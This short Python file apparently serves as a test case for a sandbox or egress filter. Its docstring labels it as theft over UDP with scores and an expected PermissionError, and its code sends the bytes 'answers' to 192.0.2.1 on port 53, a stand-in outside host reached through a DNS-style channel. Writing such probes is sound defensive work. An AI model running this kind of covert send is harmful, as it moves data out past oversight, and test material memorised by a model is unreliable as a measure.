"""A datagram to another machine.

class: theft, network by UDP
tries: sends away what it has found, by a question for a name
outcome: total 4, scaled 6
says: PermissionError
"""

# %% first
import socket

line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
line.sendto(b"answers", ("192.0.2.1", 53))
